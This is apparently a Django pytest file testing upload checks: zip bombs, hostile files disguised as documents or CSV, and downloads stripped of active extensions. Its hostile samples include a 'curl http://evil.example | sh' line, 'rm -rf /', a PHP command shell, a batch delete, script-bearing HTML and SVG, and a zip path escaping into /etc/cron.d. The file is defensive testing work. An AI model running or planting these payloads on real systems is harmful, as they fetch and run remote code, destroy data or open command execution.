"""Uploads with bounded cost and types read from the content (issue #13, item 2): zip bombs and huge cells
are refused from the archive's directory with little memory, hostile files posing as documents or CSV are
refused, and a download never keeps an extension a browser would run."""

import io
import tracemalloc
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db.models.fields.files import FieldFile, FileField
from django.urls import reverse

from programme.files import check_upload, private_file_response
from projects.models import DeliverableVersion
from prospects import importing
from tests.projects.factories import DeliverableFactory

from .test_files import zip_bytes

pytestmark = pytest.mark.django_db

MiB = 1024 * 1024
#: Peak Python memory allowed to judge one upload, whatever the file.
BUDGET = 50 * MiB

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)


def _streamed_member(archive: zipfile.ZipFile, name: str, *, size: int, head: bytes = b"", tail: bytes = b""):
    """Write a member of `size` bytes (head + repeated "A" + tail) without ever holding it in memory."""
    chunk = b"A" * MiB
    with archive.open(name, "w", force_zip64=False) as member:
        member.write(head)
        left = size - len(head) - len(tail)
        while left > 0:
            member.write(chunk[: min(left, MiB)])
            left -= MiB
        member.write(tail)


def odt_bomb() -> bytes:
    """A 1 MB « OpenDocument » whose `mimetype` entry inflates to 1 GiB (the campaign's deliverable)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        _streamed_member(
            archive, "mimetype", size=1024 * MiB, head=b"application/vnd.oasis.opendocument.text"
        )
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def xlsx_with_huge_cell() -> bytes:
    """A small XLSX whose one cell holds 200 MiB of text (the campaign's 205 KB workbook)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        archive.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            '<sheet name="Veille" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        archive.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
            'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        )
        _streamed_member(
            archive,
            "xl/worksheets/sheet1.xml",
            size=200 * MiB,
            head=b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
            b'main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Nom</t></is></c>'
            b'<c r="B1" t="inlineStr"><is><t>Commune</t></is></c></row><row r="2"><c r="A2" t="inlineStr">'
            b"<is><t>",
            tail=b"</t></is></c></row></sheetData></worksheet>",
        )
    return buffer.getvalue()


def peak_memory(call) -> int:
    """The peak of Python allocations while `call` runs (its exception, if any, is swallowed)."""
    tracemalloc.start()
    try:
        call()
    except (ValidationError, importing.ImportFileError):
        pass
    finally:
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return peak


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return odt_bomb()


@pytest.fixture(scope="module")
def huge_cell() -> bytes:
    return xlsx_with_huge_cell()


# --- Bounded cost ----------------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_from_its_directory_with_little_memory(bomb):
    assert len(bomb) < 5 * MiB
    upload = SimpleUploadedFile("livrable.odt", bomb)
    with pytest.raises(ValidationError, match="trop volumineuse une fois décompressée"):
        check_upload(upload)
    assert peak_memory(lambda: check_upload(upload)) < BUDGET


def test_a_partner_uploading_a_zip_bomb_gets_a_french_error_and_nothing_is_kept(world, bomb):
    from tests.conftest import client_for

    deliverable = DeliverableFactory(project=world.project_b, owner_organisation=world.org_b)
    client = client_for(world.partner_b)
    url = reverse("portal:deliverable", args=[deliverable.pk])
    upload = SimpleUploadedFile("livrable.odt", bomb)
    response = None

    def post():
        nonlocal response
        response = client.post(url, {"file": upload, "comment": "Version finale"})

    assert peak_memory(post) < BUDGET
    assert response is not None and response.status_code == 400
    assert "trop volumineuse une fois décompressée" in response.content.decode()
    assert not DeliverableVersion.objects.filter(deliverable=deliverable).exists()


def test_an_xlsx_with_one_huge_cell_is_refused_before_parsing(huge_cell):
    assert len(huge_cell) < 2 * MiB
    with pytest.raises(importing.ImportFileError, match="trop volumineux une fois décompressé"):
        importing.read_table(huge_cell)
    assert peak_memory(lambda: importing.read_table(huge_cell)) < BUDGET


def test_an_xlsx_with_too_many_sheets_or_columns_is_refused():
    from openpyxl import Workbook

    workbook = Workbook()
    for n in range(importing.MAX_SHEETS):
        workbook.create_sheet(f"Feuille {n}")
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(importing.ImportFileError, match="feuilles"):
        importing.read_table(buffer.getvalue())

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Nom", "Commune", *[f"C{n}" for n in range(importing.MAX_COLUMNS)]])
    sheet.append(["Asso", "Lyon"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with pytest.raises(importing.ImportFileError, match="colonnes"):
        importing.read_table(buffer.getvalue())


def test_a_zip_announcing_millions_of_members_is_refused_before_its_directory_is_read():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", "<w:document/>")
    data = bytearray(buffer.getvalue())
    eocd = data.rindex(b"PK\x05\x06")
    data[eocd + 8 : eocd + 12] = (60000).to_bytes(2, "little") * 2  # entries on this disk, in total
    with pytest.raises(ValidationError, match="trop volumineuse"):
        check_upload(SimpleUploadedFile("a.docx", bytes(data)))


# --- Types from the content, a strict allow-list -----------------------------------------------------------


def _zip(parts: dict[str, bytes | str]) -> bytes:
    return zip_bytes(parts, compression=zipfile.ZIP_DEFLATED)


HOSTILE = {
    "html as csv": b"nom;ville\n<html><script>alert(1)</script></html>\n",
    "svg as csv": b"a;b\n<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\n",
    "html behind a BOM": b"\xef\xbb\xbf<!doctype html><p>x</p>",
    "html behind a comment": b"<!-- rapport --><html><body onload=alert(1)></body></html>",
    "html behind whitespace and text": b"\n\n  Rapport\n<script src=//evil.example/x.js></script>\n",
    "svg behind a BOM": b"\xef\xbb\xbf<svg xmlns='http://www.w3.org/2000/svg'/>",
    "xml declaration": b"<?xml version='1.0'?><x/>",
    "shell script named .pdf": b"#!/bin/sh\ncurl http://evil.example | sh\n",
    "shell script behind a BOM": b"\xef\xbb\xbf#!/usr/bin/env bash\nrm -rf /\n",
    "php": b"<?php system($_GET['c']); ?>",
    "batch": b"@echo off\r\ndel /q C:\\*\r\n",
    "docx with an exe": _zip(
        {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<w:document/>", "word/setup.exe": b"MZ"}
    ),
    "word folder and an exe": _zip({"word/x.xml": "<x/>", "payload.exe": b"MZ"}),
    "docx without its manifest": _zip({"word/document.xml": "<w:document/>"}),
    "docx with macros": _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "word/document.xml": "<w:document/>",
            "word/vbaProject.bin": b"x",
        }
    ),
    "odt with a script": _zip(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": "<c/>",
            "Scripts/python/x.py": "import os",
        }
    ),
    "odt without content": _zip({"mimetype": "application/vnd.oasis.opendocument.text"}),
    "zip path escaping": _zip(
        {
            "[Content_Types].xml": CONTENT_TYPES,
            "word/document.xml": "<w:document/>",
            "../../etc/cron.d/x": "x",
        }
    ),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_files_are_refused(content):
    with pytest.raises(ValidationError):
        check_upload(SimpleUploadedFile("rapport.pdf", content))


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("\ufeffnom;montant\nÉpicerie;1 200\n".encode(), "text/csv"),
        (b"nom,ville,montant\nA,Lyon,3\nB,Paris,4\n", "text/csv"),
        # A sentence with commas is text, not a CSV that would not parse.
        ("Bonjour, voici le compte rendu, comme prévu.\nLa séance a eu lieu hier.\n".encode(), "text/plain"),
        (b"Il a dit : 3 < 5 et 7 > 2.\n", "text/plain"),
        (
            _zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<w:document/>"}),
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    ],
)
def test_real_documents_still_pass(content, expected):
    sniffed, _digest = check_upload(SimpleUploadedFile("fichier", content))
    assert sniffed.content_type == expected


def test_a_use_accepts_only_the_types_of_its_allow_list():
    with pytest.raises(ValidationError, match="Type de fichier non accepté"):
        check_upload(SimpleUploadedFile("a.csv", b"nom;ville\nA;Lyon\n"), accept={"application/pdf"})


# --- Downloads never keep an active extension -------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content_type", "served_as", "served_type"),
    [
        ("rapport.html", "text/plain", "rapport.txt", "text/plain"),
        ("dessin.svg", None, "dessin.txt", "text/plain"),
        ("outil.js", "text/plain", "outil.txt", "text/plain"),
        ("page.HTM", "text/html", "page.txt", "text/plain"),
        ("bilan.html", "application/pdf", "bilan.pdf", "application/pdf"),
        ("bilan.pdf", "application/pdf", "bilan.pdf", "application/pdf"),
    ],
)
def test_downloads_never_keep_an_active_extension(name, content_type, served_as, served_type):
    stored = default_storage.save("tests/fichier", ContentFile(b"contenu"))
    response = private_file_response(
        FieldFile(None, FileField(name="file"), stored), filename=name, content_type=content_type
    )
    assert response["Content-Disposition"] == f'attachment; filename="{served_as}"'
    assert response["Content-Type"].startswith(served_type)
    response.close()
